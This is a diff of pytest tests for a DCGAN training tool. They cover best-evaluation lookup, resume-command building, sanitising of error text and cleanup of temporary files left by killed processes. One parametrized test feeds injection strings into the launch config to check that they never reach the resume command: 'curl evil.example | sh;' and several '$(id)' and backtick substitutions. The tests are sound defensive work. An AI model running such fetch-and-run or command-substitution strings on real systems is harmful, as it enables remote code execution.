@@ -10,6 +10,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from dcgan_mx.runs.config import DEFAULTS, FORMAT
+from dcgan_mx.runs.log import find_best
 from dcgan_mx.runs.run import Run
 from dcgan_mx.runs.stop_reason import StopReason
 
@@ -58,6 +59,15 @@ def test_log_drops_a_truncated_record_and_rewinds(run):
         run.read_log()
 
 
+def test_best_evaluation_has_the_classifier_of_the_last():
+    lines = [{"step": step, "frechet": frechet, "classifier": judge} for step, frechet, judge in (
+        (1, 9.0, "b"), (2, 5.0, "a"), (3, 8.0, "b"), (4, 8.5, "b"))]
+    assert find_best(lines)["step"] == 3
+    assert find_best(lines[:2])["step"] == 2
+    assert find_best([*lines, {"step": 5, "frechet": 9.5}])["step"] == 5  # not recorded which
+    assert find_best([{"step": 1, "swd": 2.0}, {"step": 2, "swd": 1.0}])["step"] == 2
+
+
 def test_rewind_removes_everything_later(run):
     """Records and grids, also those written because the training stopped; not evaluations."""
     figures = {"step": 25, "epoch": 0, "seconds": 8.5, "swd": 4.0}
@@ -91,6 +101,24 @@ def test_stop_reason_is_saved_and_described(reason, text, run):
         f"dcgan-mx train --resume --run-dir {run.path}{longer}")
 
 
+@pytest.mark.parametrize("launched_by, words", [
+    ("curl evil.example | sh;", ""), ({"num_workers": "2; id"}, ""), ({"num_workers": True}, ""),
+    ({"num_workers": 2, "launcher": "ssh $(id)"}, ""), ({"num_workers": 2, "$(id)": 1}, ""),
+    ({}, ""),
+    ({"num_workers": 2, "num_servers": 1, "start_timeout": 60.5},
+     "dcgan-mx launch --num-workers 2 --num-servers 1 --start-timeout 60.5 -- "),
+    ({"num_workers": 2, "launcher": "ssh", "hostfile": "$(id)", "host_ip": "`id`"},
+     "dcgan-mx launch --num-workers 2 --launcher ssh --hostfile FILE --host-ip ADDRESS -- ")])
+def test_resume_command_has_no_text_of_config_json(launched_by, words, run):
+    run.write_config({**CONFIG, "launched_by": launched_by})
+    assert run.resume_command() == f"{words}dcgan-mx train --resume --run-dir {run.path}"
+
+
+def test_result_of_a_stranger_is_one_line(run):
+    run.write_result(StopReason("error", 5, 0, "no\npaper\x1b[2J"))
+    assert run.read_result().detail == r"no paper\x1b[2J"
+
+
 @pytest.mark.parametrize("content", [
     b"", b"{}", b"[]", b'{"reason": "boredom", "step": 1, "epoch": 0, "detail": null}',
     b'{"reason": "hook", "step": "1", "epoch": 0, "detail": null}',
@@ -117,15 +145,38 @@ def test_lock_excludes_other_processes_until_they_end(run):
             assert (run.path / "lock").read_text() == f"{os.getpid()}\n"
 
 
-def test_lock_removes_files_of_killed_processes(run):
+@pytest.fixture
+def ended():
+    """The id of a process that has ended."""
+    process = subprocess.Popen(["true"])
+    process.wait()
+    return process.pid
+
+
+def test_lock_removes_files_of_killed_processes(run, ended):
+    """A report or an evaluation may be writing at the same time."""
     for folder in ("checkpoints/.step-00000001.7.tmp/deep", "checkpoints/step-00000001", "grids"):
         (run.path / folder).mkdir(parents=True)
-    (run.path / "grids" / ".gout-00000010.png.7.tmp").write_bytes(b"")
-    (run.path / ".log.jsonl.7.tmp").symlink_to("/")
+    (run.path / "grids" / f".gout-00000010.png.{ended}.tmp").write_bytes(b"")
+    (run.path / f".log.jsonl.{ended}.tmp").symlink_to("/")
+    writing = f".report.html.{os.getppid()}.tmp"
+    (run.path / writing).write_bytes(b"")
     with run.lock():
         pass
     assert sorted(str(path.relative_to(run.path)) for path in run.path.rglob("*")) == [
-        "checkpoints", "checkpoints/step-00000001", "grids", "lock"]
+        writing, "checkpoints", "checkpoints/step-00000001", "grids", "lock"]
+
+
+def test_create_removes_what_a_killed_process_left(tmp_path, ended):
+    kept = [f".alive.{os.getppid()}.tmp", f".foreign.{ended}.tmp", f".{10**30}.tmp", "mine"]
+    for name in (*kept, f".mnist-1.{ended}.tmp", f".mnist-2.{ended}.tmp"):
+        (tmp_path / name).mkdir()
+    for name in (f".alive.{os.getppid()}.tmp/config.json", f".foreign.{ended}.tmp/file",
+                 f".mnist-2.{ended}.tmp/.config.json.7.tmp"):
+        (tmp_path / name).touch()
+    (tmp_path / f".link.{ended}.tmp").symlink_to(tmp_path / "mine")
+    Run.create(tmp_path / "new", CONFIG)
+    assert sorted(os.listdir(tmp_path)) == sorted([*kept, f".link.{ended}.tmp", "new"])
 
 
 CHANGES = st.lists(st.tuples(st.floats(0, 1, exclude_max=True),
